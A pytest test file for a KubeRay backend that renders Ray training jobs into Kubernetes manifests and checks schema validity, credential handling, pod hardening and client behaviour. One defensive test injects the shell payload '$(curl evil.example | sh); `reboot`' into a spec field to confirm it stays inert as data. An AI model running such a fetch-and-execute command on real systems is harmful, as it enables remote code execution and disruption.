"""KubeRay backend: rendered manifests against the real KubeRay v1.7.0 CRD schema and Kubernetes schemas, the
platform's policies on them, and the client path against an in-process Kubernetes API (kmock)."""

from __future__ import annotations

import json
import queue
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import kmock
import pytest
import yaml
from kubernetes import client as k8s

from tests.support.config import REPO
from tests.support.kube_api import KubeApiServer
from tests.support.manifests import (
    containers,
    load_crd_schema,
    restricted_problems,
    schema_errors,
    validation_problems,
)
from tuneplane.backends.base import BackendJob, RunPhase, RunStatus
from tuneplane.backends.kuberay import (
    ENTRYPOINT,
    GROUP,
    PLURAL,
    VERSION,
    KubeRayBackend,
    rayjob_status,
    render_configmap,
    render_rayjob,
)
from tuneplane.config import PlatformConfig
from tuneplane.errors import BackendError
from tuneplane.spec import load_spec, parse_spec

# The real CRD of KubeRay v1.7.0, vendored (a copy of ../shared/schemas) so CI needs nothing outside the repo.
CRD = REPO / "tests" / "schemas" / "kuberay-v1.7.0" / "ray.io_rayjobs.yaml"

SECRET_SENTINEL = "sentinel-secret-value-9f2c"
STORAGE_ENV = {
    "AWS_ACCESS_KEY_ID": {"name": "tuneplane-s3", "key": "access-key-id"},
    "AWS_SECRET_ACCESS_KEY": {"name": "tuneplane-s3", "key": "secret-access-key"},
}
H100 = {
    "node_selector": {"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3", "pool": "h100"},
    "tolerations": [
        {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"},
        {"key": "dedicated", "value": "training", "effect": "NoExecute"},
    ],
    "accelerator_type": "H100",
}
MI300 = {"node_selector": {"pool": "mi300"}, "resource_name": "amd.com/gpu"}


def make_config(kueue: bool = False, storage_env: bool = True, **kuberay: Any) -> PlatformConfig:
    return PlatformConfig.model_validate(
        {
            "backend": "kuberay",
            "teams": [{"name": "team-a", "namespace": "ml-team-a", "gpu_pools": ["h100", "mi300"]}],
            "gpu_pools": {"h100": H100, "mi300": MI300},
            "max_job_duration_s": 86400,
            "kuberay": {
                "image": "ghcr.io/tuneplane/runtime:0.1.0",
                "service_account": "tuneplane-jobs",
                "storage_path": "s3://tuneplane/runs",
                "tracking_uri": "http://tuneplane-mlflow:5000",
                # an operator label that tries to take over ours must not win
                "labels": {"cost-center": "ml-research", "app.kubernetes.io/managed-by": "helm"},
                "storage_env": STORAGE_ENV if storage_env else {},
                "kueue": {"enabled": kueue, "queue_name": "{team}-queue"},
                **kuberay,
            },
        }
    )


def make_job(spec_file: str, job_id: str, gpu_pool: str | None = None) -> BackendJob:
    spec = load_spec(REPO / "jobs" / spec_file)
    return BackendJob(id=job_id, team="team-a", namespace="ml-team-a", spec=spec, gpu_pool=gpu_pool)


JOBS = {
    "tiny-cpu": ("tiny-cpu.yaml", "tiny-cpu-20260101-000000"),
    "llama3-8b": ("llama3-8b-lora-zero2.yaml", "llama3-8b-lora-7f3a"),
    "llama3-70b": ("llama3-70b-lora-zero3.yaml", "llama3-70b-lora-0c1d"),
}
CASES = [
    pytest.param(job, kueue, storage, id=f"{job}-kueue{int(kueue)}-secrets{int(storage)}")
    for job in JOBS
    for kueue in (False, True)
    for storage in (True, False)
]


def rendered(name: str, **config: Any) -> dict[str, Any]:
    spec_file, job_id = JOBS[name]
    return render_rayjob(make_job(spec_file, job_id), make_config(**config))


def pod_templates(rayjob: dict[str, Any]) -> dict[str, dict[str, Any]]:
    cluster = rayjob["spec"]["rayClusterSpec"]
    templates = {
        "head": cluster["headGroupSpec"]["template"],
        "submitter": rayjob["spec"]["submitterPodTemplate"],
    }
    for group in cluster["workerGroupSpecs"]:
        templates[f"worker:{group['groupName']}"] = group["template"]
    return templates


def rayjob_containers(rayjob: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    for where, template in pod_templates(rayjob).items():
        for container in containers(template["spec"]):
            yield f"{where}/{container['name']}", container


# ---------------------------------------------------------------------------------------------- schema


@pytest.fixture(scope="module")
def crd_schema() -> dict[str, Any]:
    return load_crd_schema(CRD)


@pytest.mark.parametrize(("name", "kueue", "storage_env"), CASES)
def test_rayjob_validates_against_kuberay_crd(
    crd_schema: dict[str, Any], name: str, kueue: bool, storage_env: bool
) -> None:
    rayjob = rendered(name, kueue=kueue, storage_env=storage_env)
    assert schema_errors(rayjob, crd_schema) == []


@pytest.mark.parametrize("k8s_version", ["1.30.0", "1.33.0"])
@pytest.mark.parametrize("name", list(JOBS))
def test_configmap_and_pod_templates_validate_strictly(name: str, k8s_version: str) -> None:
    spec_file, job_id = JOBS[name]
    job, config = make_job(spec_file, job_id), make_config(kueue=True)
    assert validation_problems(render_configmap(job, config), k8s_version) == []
    # The CRD embeds PodTemplateSpecs; the core schema checks them more closely (strict: no unknown field).
    for where, template in pod_templates(render_rayjob(job, config)).items():
        name = where.replace(":", "-")
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {**template["metadata"], "name": name}}
        pod["spec"] = template["spec"]
        assert validation_problems(pod, k8s_version) == []


def test_unknown_fields_are_rejected(crd_schema: dict[str, Any]) -> None:
    rayjob = rendered("llama3-8b")
    rayjob["spec"]["shutdownAfterJobFinish"] = True  # misspelt
    rayjob["spec"]["rayClusterSpec"]["headGroupSpec"]["rayStartParam"] = {}
    rayjob["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]["containers"][0]["cmd"] = [
        "x"
    ]
    assert sorted(schema_errors(rayjob, crd_schema)) == [
        "spec.rayClusterSpec.headGroupSpec.rayStartParam: not in the schema",
        "spec.rayClusterSpec.workerGroupSpecs[0].template.spec.containers[0].cmd: not in the schema",
        "spec.shutdownAfterJobFinish: not in the schema",
    ]
    # and a wrong type is caught by jsonschema itself
    rayjob = rendered("llama3-8b")
    rayjob["spec"]["backoffLimit"] = "3"
    assert any(e.startswith("spec.backoffLimit:") for e in schema_errors(rayjob, crd_schema))
    # the strict Kubernetes schema rejects unknown ConfigMap fields too
    configmap = render_configmap(make_job(*JOBS["tiny-cpu"]), make_config())
    configmap["spec"] = {}
    (problem,) = validation_problems(configmap, "1.30.0")
    assert "'spec' was unexpected" in problem, problem


# ---------------------------------------------------------------------------------------------- policy


@pytest.mark.parametrize("name", list(JOBS))
def test_credentials_only_as_secret_refs(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # Values present in the control plane's own environment must never be copied into a manifest.
    for var in STORAGE_ENV:
        monkeypatch.setenv(var, SECRET_SENTINEL)
    spec_file, job_id = JOBS[name]
    job, config = make_job(spec_file, job_id), make_config()
    rayjob, configmap = render_rayjob(job, config), render_configmap(job, config)
    assert SECRET_SENTINEL not in json.dumps(rayjob) + json.dumps(configmap)
    ray_containers = [c for where, c in rayjob_containers(rayjob) if "submitter" not in where]
    assert len(ray_containers) == 2
    for container in ray_containers:
        env = {e["name"]: e for e in container["env"]}
        for var, ref in STORAGE_ENV.items():
            assert env[var] == {"name": var, "valueFrom": {"secretKeyRef": ref}}
        assert env["TUNEPLANE_JOB_ID"] == {"name": "TUNEPLANE_JOB_ID", "value": job_id}
        assert env["TUNEPLANE_STORAGE_PATH"]["value"] == "s3://tuneplane/runs"
        assert env["MLFLOW_TRACKING_URI"]["value"] == "http://tuneplane-mlflow:5000"
        platform_env = {"TUNEPLANE_JOB_ID", "TUNEPLANE_STORAGE_PATH", "MLFLOW_TRACKING_URI", *STORAGE_ENV}
        assert set(env) - {"TUNEPLANE_ACCELERATOR_TYPE"} == platform_env
    # the submitter only runs `ray job submit`: it gets no credentials
    submitter = next(c for where, c in rayjob_containers(rayjob) if "submitter" in where)
    assert "env" not in submitter


@pytest.mark.parametrize("name", list(JOBS))
def test_every_container_is_restricted(name: str) -> None:
    rayjob = rendered(name)
    found = list(rayjob_containers(rayjob))
    assert [where for where, _ in found] == [
        "head/ray-head",
        "submitter/ray-job-submitter",
        "worker:workers/ray-worker",
    ]
    for where, container in found:
        assert container["image"] == "ghcr.io/tuneplane/runtime:0.1.0", where
        assert container["imagePullPolicy"] == "IfNotPresent", where
    for where, template in pod_templates(rayjob).items():
        spec = template["spec"]
        assert restricted_problems(spec) == [], where
        assert spec["serviceAccountName"] == "tuneplane-jobs", where
        assert spec["automountServiceAccountToken"] is False, where
    # every container owns its settings: no shared sub-objects (which YAML would dump as anchors)
    assert "&id" not in yaml.safe_dump(rayjob)


@pytest.mark.parametrize("name", list(JOBS))
def test_command_is_the_fixed_entrypoint(name: str) -> None:
    rayjob = rendered(name)
    assert rayjob["spec"]["entrypoint"] == "python -m tuneplane.train --spec /etc/tuneplane/spec/spec.yaml"
    assert rayjob["spec"]["entrypoint"] == ENTRYPOINT
    assert "runtimeEnvYAML" not in rayjob["spec"]
    for where, container in rayjob_containers(rayjob):
        # KubeRay builds `ray start` / `ray job submit` itself; we add no command anywhere
        assert "command" not in container and "args" not in container, where


def test_spec_content_reaches_pods_only_as_data() -> None:
    # A spec value that looks like shell must appear nowhere but in the ConfigMap's data.
    job = make_job(*JOBS["tiny-cpu"])
    data = job.spec.to_dict()
    data["data"]["system_prompt"] = "$(curl evil.example | sh); `reboot`"
    job = BackendJob(id=job.id, team=job.team, namespace=job.namespace, spec=parse_spec(data))
    config = make_config()
    assert "evil.example" not in json.dumps(render_rayjob(job, config))
    configmap = render_configmap(job, config)
    assert configmap["metadata"]["name"] == f"{job.id}-spec"
    assert yaml.safe_load(configmap["data"]["spec.yaml"]) == job.spec.to_dict()
    assert parse_spec(yaml.safe_load(configmap["data"]["spec.yaml"])) == job.spec


@pytest.mark.parametrize("name", list(JOBS))
def test_spec_mounted_into_head_and_workers(name: str) -> None:
    rayjob = rendered(name)
    job_id = JOBS[name][1]
    for where in ("head", "worker:workers"):
        pod = pod_templates(rayjob)[where]["spec"]
        volumes = {v["name"]: v for v in pod["volumes"]}
        assert volumes["spec"] == {"name": "spec", "configMap": {"name": f"{job_id}-spec"}}
        assert volumes["dshm"] == {"name": "dshm", "emptyDir": {"medium": "Memory"}}
        mounts = {m["name"]: m for m in pod["containers"][0]["volumeMounts"]}
        assert mounts["spec"] == {"name": "spec", "mountPath": "/etc/tuneplane/spec", "readOnly": True}
        assert mounts["dshm"]["mountPath"] == "/dev/shm"


def test_gpu_resources_and_placement_come_from_the_pool() -> None:
    rayjob = rendered("llama3-70b")  # 32 workers x 1 GPU, 10 CPU, 160Gi on pool h100
    cluster = rayjob["spec"]["rayClusterSpec"]
    (group,) = cluster["workerGroupSpecs"]
    assert group["replicas"] == group["minReplicas"] == group["maxReplicas"] == 32
    pod = group["template"]["spec"]
    assert pod["containers"][0]["resources"] == {
        "requests": {"cpu": "10", "memory": "160Gi"},
        "limits": {"cpu": "10", "memory": "160Gi", "nvidia.com/gpu": "1"},
    }
    assert group["rayStartParams"] == {"num-gpus": "1"}
    assert pod["nodeSelector"] == H100["node_selector"]
    assert pod["tolerations"] == [
        {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"},
        {"key": "dedicated", "operator": "Equal", "value": "training", "effect": "NoExecute"},
    ]
    head = cluster["headGroupSpec"]
    assert "nodeSelector" not in head["template"]["spec"] and "tolerations" not in head["template"]["spec"]
    assert head["template"]["spec"]["containers"][0]["resources"] == {
        "requests": {"cpu": "2", "memory": "8Gi"},
        "limits": {"cpu": "2", "memory": "8Gi"},
    }
    assert head["rayStartParams"]["num-cpus"] == "0"  # no training on the head
    assert head["serviceType"] == "ClusterIP" and head["enableIngress"] is False


def test_job_pool_overrides_spec_pool_and_its_resource_name() -> None:
    job = make_job(*JOBS["llama3-8b"], gpu_pool="mi300")  # the spec says h100
    (group,) = render_rayjob(job, make_config())["spec"]["rayClusterSpec"]["workerGroupSpecs"]
    pod = group["template"]["spec"]
    assert pod["containers"][0]["resources"]["limits"] == {"cpu": "8", "memory": "96Gi", "amd.com/gpu": "1"}
    assert pod["nodeSelector"] == {"pool": "mi300"}
    assert pod["tolerations"] == []
    assert group["replicas"] == 8


def test_cpu_job_has_no_gpu_and_no_pool() -> None:
    (group,) = rendered("tiny-cpu")["spec"]["rayClusterSpec"]["workerGroupSpecs"]
    pod = group["template"]["spec"]
    assert pod["containers"][0]["resources"] == {"requests": {"cpu": "1"}, "limits": {"cpu": "1"}}
    assert "nodeSelector" not in pod and "tolerations" not in pod
    assert group["rayStartParams"] == {}
    assert group["replicas"] == 2


def test_unknown_pool_and_overlong_id_are_refused() -> None:
    with pytest.raises(BackendError, match="GPU pool 'a100' is not defined"):
        render_rayjob(make_job(*JOBS["llama3-8b"], gpu_pool="a100"), make_config())
    with pytest.raises(BackendError, match="longer than the 47 characters"):
        render_rayjob(make_job("tiny-cpu.yaml", "x" * 48), make_config())


@pytest.mark.parametrize("kueue", [False, True])
def test_kueue_label_and_suspend_only_when_enabled(kueue: bool) -> None:
    rayjob = rendered("llama3-8b", kueue=kueue)
    labels = rayjob["metadata"]["labels"]
    if kueue:
        assert labels["kueue.x-k8s.io/queue-name"] == "team-a-queue"
        assert rayjob["spec"]["suspend"] is True
    else:
        assert "kueue.x-k8s.io/queue-name" not in labels
        assert "suspend" not in rayjob["spec"]


def test_metadata_lifecycle_and_labels() -> None:
    rayjob = rendered("llama3-8b")
    assert rayjob["apiVersion"] == "ray.io/v1" and rayjob["kind"] == "RayJob"
    assert rayjob["metadata"]["name"] == "llama3-8b-lora-7f3a"
    assert rayjob["metadata"]["namespace"] == "ml-team-a"
    assert rayjob["metadata"]["labels"] == {
        "cost-center": "ml-research",
        "app.kubernetes.io/name": "tuneplane",
        "app.kubernetes.io/managed-by": "tuneplane",  # the operator's label does not replace ours
        "tuneplane.io/job-id": "llama3-8b-lora-7f3a",
        "tuneplane.io/team": "team-a",
    }
    for template in pod_templates(rayjob).values():
        assert template["metadata"]["labels"]["tuneplane.io/job-id"] == "llama3-8b-lora-7f3a"
    spec = rayjob["spec"]
    assert spec["shutdownAfterJobFinishes"] is True
    assert spec["ttlSecondsAfterFinished"] == 3600
    assert spec["backoffLimit"] == 0
    assert spec["activeDeadlineSeconds"] == 86400
    assert spec["submissionMode"] == "K8sJobMode"
    assert spec["rayClusterSpec"]["rayVersion"] == "2.60.0"
    assert spec["submitterPodTemplate"]["spec"]["restartPolicy"] == "Never"
    config = make_config(image_pull_policy="Always", service_account=None, ttl_seconds_after_finished=60)
    rayjob = render_rayjob(make_job(*JOBS["tiny-cpu"]), config)
    assert rayjob["spec"]["ttlSecondsAfterFinished"] == 60
    for where, container in rayjob_containers(rayjob):
        assert container["imagePullPolicy"] == "Always", where
    assert all("serviceAccountName" not in t["spec"] for t in pod_templates(rayjob).values())


@pytest.mark.parametrize(
    ("deployment", "job_status", "phase"),
    [
        (None, None, RunPhase.PENDING),
        ("Initializing", "", RunPhase.PENDING),
        ("Suspended", None, RunPhase.PENDING),
        ("Waiting", None, RunPhase.PENDING),
        ("Running", "PENDING", RunPhase.RUNNING),
        ("Running", "RUNNING", RunPhase.RUNNING),
        ("Running", "FAILED", RunPhase.RUNNING),  # may be retried: not terminal until the deployment is
        ("Retrying", "FAILED", RunPhase.RUNNING),
        ("Complete", "SUCCEEDED", RunPhase.SUCCEEDED),
        ("Complete", "FAILED", RunPhase.FAILED),
        ("Complete", "STOPPED", RunPhase.STOPPED),
        ("Failed", "FAILED", RunPhase.FAILED),
        ("Failed", None, RunPhase.FAILED),
        ("ValidationFailed", None, RunPhase.FAILED),
    ],
)
def test_status_mapping(deployment: str | None, job_status: str | None, phase: RunPhase) -> None:
    status = {k: v for k, v in {"jobDeploymentStatus": deployment, "jobStatus": job_status}.items() if v}
    if deployment == "Failed":
        status["message"] = "activeDeadlineSeconds exceeded"
    result = rayjob_status({"metadata": {"name": "x"}, "status": status})
    assert result.phase == phase
    if deployment == "Failed":
        assert result.message == "activeDeadlineSeconds exceeded"
    if deployment == "Suspended":
        assert "admission" in result.message
    assert (
        rayjob_status({"metadata": {"deletionTimestamp": "now"}, "status": status}).phase == RunPhase.STOPPED
    )


# ------------------------------------------------------------------------------------ client (kmock)


@pytest.fixture(scope="module")
def kube_api() -> Iterator[KubeApiServer]:
    server = KubeApiServer()
    yield server
    server.stop()


@pytest.fixture
def backend(kube_api: KubeApiServer) -> Iterator[KubeRayBackend]:
    backend = KubeRayBackend(make_config(api_server=kube_api.url))  # builds its client from api_server
    yield backend
    backend.close()


def operator_sets_status(backend: KubeRayBackend, job: BackendJob, **status: str) -> None:
    """Play the KubeRay operator: write the RayJob's status subresource."""
    k8s.CustomObjectsApi(backend.api_client).patch_namespaced_custom_object_status(
        GROUP, VERSION, job.namespace, PLURAL, job.id, {"status": status}
    )


def test_server_speaks_kubernetes(kube_api: KubeApiServer, backend: KubeRayBackend) -> None:
    assert k8s.VersionApi(backend.api_client).get_code().major == "1"  # GET /version/


def test_submit_status_watch_cancel(kube_api: KubeApiServer, backend: KubeRayBackend) -> None:
    job = make_job(*JOBS["llama3-8b"])
    custom, core = k8s.CustomObjectsApi(backend.api_client), k8s.CoreV1Api(backend.api_client)

    def rayjobs() -> list[dict[str, Any]]:
        return custom.list_namespaced_custom_object(GROUP, VERSION, job.namespace, PLURAL)["items"]

    def configmaps() -> list[str]:
        return [cm.metadata.name for cm in core.list_namespaced_config_map(job.namespace).items]

    assert backend.status(job) == RunStatus(RunPhase.MISSING, "no RayJob of this name")
    backend.submit(job)
    (stored,) = rayjobs()
    assert stored == render_rayjob(job, backend.config)
    assert configmaps() == [f"{job.id}-spec"]
    backend.submit(job)  # idempotent: the 409s are "already submitted"
    assert len(rayjobs()) == 1 and configmaps() == [f"{job.id}-spec"]
    assert backend.status(job).phase == RunPhase.PENDING

    operator_sets_status(backend, job, jobDeploymentStatus="Running", jobStatus="RUNNING")
    assert backend.status(job).phase == RunPhase.RUNNING

    events: queue.Queue[tuple[str, RunStatus] | BaseException | None] = queue.Queue()

    def follow() -> None:
        try:
            for job_id, status in backend.watch(job.namespace, timeout_seconds=20):
                events.put((job_id, status))
                if status.phase == RunPhase.MISSING:
                    break
        except BaseException as exc:  # reported to the test thread
            events.put(exc)
        events.put(None)

    def next_event() -> tuple[str, RunStatus]:
        event = events.get(timeout=15)
        assert isinstance(event, tuple), event
        return event

    watcher = threading.Thread(target=follow, daemon=True)
    watcher.start()
    assert next_event() == (job.id, RunStatus(RunPhase.RUNNING))  # the existing object
    # kmock subscribes the stream to changes just after sending the existing objects: wait for that
    for _ in range(100):
        if kube_api.watchers():
            break
        time.sleep(0.05)
    operator_sets_status(backend, job, jobDeploymentStatus="Complete", jobStatus="SUCCEEDED")
    assert next_event() == (job.id, RunStatus(RunPhase.SUCCEEDED))
    assert backend.status(job) == RunStatus(RunPhase.SUCCEEDED)

    backend.cancel(job)
    assert next_event() == (job.id, RunStatus(RunPhase.MISSING, "the RayJob was deleted"))
    assert events.get(timeout=15) is None
    watcher.join(10)
    assert not watcher.is_alive()
    assert rayjobs() == [] and configmaps() == []
    assert backend.status(job).phase == RunPhase.MISSING
    backend.cancel(job)  # idempotent: 404s ignored
    assert backend.status(job).phase == RunPhase.MISSING
    deletes = [
        r for r in list(kube_api.handler) if r.method == "DELETE" and r.resource == "ray.io/v1/rayjobs"
    ]
    assert len(deletes) == 2 and all(r.params.get("propagationPolicy") == "Background" for r in deletes)


def test_client_from_kubeconfig(kube_api: KubeApiServer, tmp_path: Path) -> None:
    kubeconfig = tmp_path / "kubeconfig"
    kubeconfig.write_text(
        yaml.safe_dump(
            {
                "apiVersion": "v1",
                "kind": "Config",
                "clusters": [{"name": "kmock", "cluster": {"server": kube_api.url}}],
                "users": [{"name": "tester", "user": {"token": "not-a-real-token"}}],
                "contexts": [{"name": "kmock", "context": {"cluster": "kmock", "user": "tester"}}],
                "current-context": "kmock",
            }
        )
    )
    backend = KubeRayBackend(make_config(kubeconfig=str(kubeconfig)))
    try:
        assert backend.status(make_job("tiny-cpu.yaml", "via-kubeconfig")).phase == RunPhase.MISSING
    finally:
        backend.close()


def test_missing_credentials_are_a_backend_error(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.delenv("KUBERNETES_SERVICE_HOST", raising=False)
    with pytest.raises(BackendError, match="in-cluster service account"):
        KubeRayBackend(make_config())
    with pytest.raises(BackendError, match="cannot load Kubernetes credentials from kubeconfig"):
        KubeRayBackend(make_config(kubeconfig=str(tmp_path / "absent")))


def test_status_of_unknown_job_is_missing(backend: KubeRayBackend) -> None:
    job = make_job("tiny-cpu.yaml", "never-submitted")
    assert backend.status(job).phase == RunPhase.MISSING


def test_logs_from_the_submitter_pod(kube_api: KubeApiServer, backend: KubeRayBackend) -> None:
    job = make_job("tiny-cpu.yaml", "tiny-cpu-logs")
    assert list(backend.logs(job)) == []  # no submitter pod yet
    core = k8s.CoreV1Api(backend.api_client)
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "tiny-cpu-logs-x7k2p",
            "namespace": job.namespace,
            "labels": {"job-name": job.id},
        },
        "spec": {"containers": [{"name": "ray-job-submitter", "image": "ray"}]},
        "status": {"phase": "Running"},
    }
    core.create_namespaced_pod(job.namespace, pod)
    log = b"step 1 loss 6.9\nstep 2 loss 6.1\ndone"
    text = kmock.Response(payload=log, headers={"Content-Type": "text/plain"})  # as the kubelet sends it
    kube_api.react(f"get /api/v1/namespaces/{job.namespace}/pods/tiny-cpu-logs-x7k2p/log", text)
    assert list(backend.logs(job)) == ["step 1 loss 6.9", "step 2 loss 6.1", "done"]
    assert list(backend.logs(job, follow=True)) == ["step 1 loss 6.9", "step 2 loss 6.1", "done"]
    reads = [r for r in list(kube_api.handler) if r.url.path.endswith("/log")]
    assert (
        reads[-1].params.get("follow") == "true" and reads[-1].params.get("container") == "ray-job-submitter"
    )


def test_api_errors_name_the_object_not_the_body(kube_api: KubeApiServer) -> None:
    job = make_job("llama3-8b-lora-zero2.yaml", "forbidden-job")
    # a 403 from the API server, with a body that would leak if echoed
    body = {"kind": "Status", "code": 403, "reason": "Forbidden", "message": SECRET_SENTINEL}
    kube_api.react(
        f"get /apis/ray.io/v1/namespaces/{job.namespace}/rayjobs/{job.id}",
        kmock.Response(status=403, payload=body),
    )
    backend = KubeRayBackend(make_config(api_server=kube_api.url))
    try:
        with pytest.raises(BackendError) as err:
            backend.status(job)
    finally:
        backend.close()
    assert str(err.value) == f"get RayJob ml-team-a/{job.id}: HTTP 403 Forbidden"
    unreachable = KubeRayBackend(make_config(api_server="http://127.0.0.1:9"))
    with pytest.raises(BackendError, match=r"create ConfigMap ml-team-a/.*: cannot reach the Kubernetes API"):
        unreachable.submit(job)
    unreachable.close()


def test_pool_accelerator_type_and_artifact_root_reach_the_entrypoint() -> None:
    def env_of(obj: dict[str, Any]) -> dict[str, str]:
        head = obj["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
        return {e["name"]: e.get("value", "") for e in head["env"]}

    gpu = render_rayjob(make_job("llama3-8b-lora-zero2.yaml", "llama3-8b-a1"), make_config())
    assert env_of(gpu)["TUNEPLANE_ACCELERATOR_TYPE"] == "H100"  # -> ScalingConfig(accelerator_type=...)
    assert "TUNEPLANE_ARTIFACT_ROOT" not in env_of(gpu)  # the tracking server decides
    cpu = render_rayjob(
        make_job("tiny-cpu.yaml", "tiny-cpu-a1"), make_config(artifact_root="s3://tuneplane/mlartifacts")
    )
    assert "TUNEPLANE_ACCELERATOR_TYPE" not in env_of(cpu)
    assert env_of(cpu)["TUNEPLANE_ARTIFACT_ROOT"] == "s3://tuneplane/mlartifacts"


def test_control_plane_on_kuberay_follows_by_watch_and_cancels(
    kube_api: KubeApiServer, backend: KubeRayBackend, tmp_path: Path
) -> None:
    """The reconciler drives RayJobs in the team's namespace; a watch event wakes it; cancel removes the RayJob."""
    from tuneplane.reconciler import Reconciler
    from tuneplane.store import Database, Principal, cancel_job, create_job

    db = Database(f"sqlite:///{tmp_path / 'cp.db'}")
    db.migrate()
    config = backend.config.model_copy(
        update={"reconcile_interval_s": 60.0, "tracking_uri": f"sqlite:///{tmp_path / 'mlflow.db'}"}
    )
    reconciler = Reconciler(db, backend, config)
    team = Principal("team-a")
    spec = load_spec(REPO / "jobs" / "tiny-cpu.yaml")  # data on local disk: validation can reach it
    with db.session() as s:
        done_id = create_job(s, team, spec, 0)[0].id
        stopped_id = create_job(s, team, spec, 0)[0].id
    reconciler.run_once()
    custom = k8s.CustomObjectsApi(backend.api_client)
    names = {
        o["metadata"]["name"]
        for o in custom.list_namespaced_custom_object(GROUP, VERSION, "ml-team-a", PLURAL)["items"]
    }
    assert names == {done_id, stopped_id}  # quota 2 (default), both in the team's namespace

    stop = threading.Event()
    reconciler.watch_backend(stop)
    for _ in range(100):
        if kube_api.watchers():
            break
        time.sleep(0.05)
    reconciler.wake.clear()
    done = BackendJob(id=done_id, team="team-a", namespace="ml-team-a", spec=spec)
    operator_sets_status(backend, done, jobDeploymentStatus="Complete", jobStatus="SUCCEEDED")
    assert reconciler.wake.wait(15), "the watch did not wake the reconciler"
    with db.session() as s:
        cancel_job(s, team, stopped_id)
    reconciler.run_once()  # deletes the cancelled RayJob
    reconciler.run_once()  # sees it gone
    stop.set()
    operator_sets_status(backend, done, jobDeploymentStatus="Complete", jobStatus="SUCCEEDED", message="x")
    for _ in range(100):  # the next event ends the watch thread
        if not kube_api.watchers():
            break
        time.sleep(0.05)
    assert not kube_api.watchers()
    with db.session() as s:
        from tuneplane.store import Job

        assert s.get(Job, done_id).state == "SUCCEEDED"
        assert s.get(Job, stopped_id).state == "CANCELLED"
    left = custom.list_namespaced_custom_object(GROUP, VERSION, "ml-team-a", PLURAL)["items"]
    assert [o["metadata"]["name"] for o in left] == [done_id]  # shutdownAfterJobFinishes/TTL clean the rest
    db.dispose()
